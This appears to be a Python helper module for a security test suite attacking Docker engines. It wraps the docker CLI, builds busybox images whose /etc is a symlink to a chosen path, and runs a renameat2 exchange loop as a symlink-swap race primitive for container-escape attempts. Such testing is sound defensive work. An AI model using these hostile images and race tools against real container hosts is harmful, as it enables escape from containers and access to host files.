"""Tools for the attacks: the docker CLI on either engine, hostile images, a symlink swapper."""

from __future__ import annotations

import ctypes
import ctypes.util
import io
import os
import platform
import shutil
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager

_libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]
AT_FDCWD = -100
RENAME_EXCHANGE = 2
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def cli(url: str, *args: str, input: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    """The real docker CLI against the engine at `url`; the caller checks the outcome."""
    env = dict(os.environ, DOCKER_HOST=url)
    env.pop("DOCKER_CONTEXT", None)
    return subprocess.run(
        ["docker", *args], input=input, capture_output=True, env=env, timeout=120, check=False
    )


def ok(result: subprocess.CompletedProcess[bytes]) -> str:
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode().strip()


def _add(tar: tarfile.TarFile, name: str, kind: bytes, *, data: bytes = b"", link: str = "",
         mode: int = 0o755) -> None:  # fmt: skip
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.linkname = kind, mode, link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if data else None)


def busybox_rootfs(etc_link: str | None = None) -> bytes:
    """A busybox rootfs as a tar; with `etc_link`, /etc is a symlink to that path."""
    busybox = shutil.which("busybox") or "/bin/busybox"
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        _add(tar, "bin", tarfile.DIRTYPE)
        _add(tar, "tmp", tarfile.DIRTYPE, mode=0o1777)
        tar.add(busybox, arcname="bin/busybox")
        for applet in ("sh", "id", "cat", "ls", "sleep", "mkfifo", "rm", "mkdir", "ln", "chmod"):
            _add(tar, f"bin/{applet}", tarfile.SYMTYPE, link="busybox")
        if etc_link is None:
            _add(tar, "etc", tarfile.DIRTYPE)
            passwd = b"root:x:0:0:root:/:/bin/sh\n"
            _add(tar, "etc/passwd", tarfile.REGTYPE, data=passwd, mode=0o644)
        else:
            _add(tar, "etc", tarfile.SYMTYPE, link=etc_link)
    return out.getvalue()


def import_image(url: str, rootfs: bytes, name: str) -> None:
    ok(cli(url, "import", "--change", 'CMD ["/bin/sh"]', "-", name, input=rootfs))


def exchange(a: str, b: str) -> bool:
    """renameat2(RENAME_EXCHANGE): `a` and `b` trade places in one step."""
    done: int = _libc.syscall(SYS_RENAMEAT2, AT_FDCWD, a.encode(), AT_FDCWD, b.encode(),
                              RENAME_EXCHANGE)  # fmt: skip
    return done == 0


@contextmanager
def swapping(a: str, b: str) -> Iterator[list[int]]:
    """Swap `a` and `b` in a loop until the block ends; yields a one-item swap counter."""
    stop = threading.Event()
    count = [0]

    def run() -> None:
        while not stop.is_set():
            if exchange(a, b):
                count[0] += 1

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    try:
        yield count
    finally:
        stop.set()
        worker.join(5)
        # Leave the pair as it started: the directory under its own name.
        if os.path.islink(a):
            exchange(a, b)
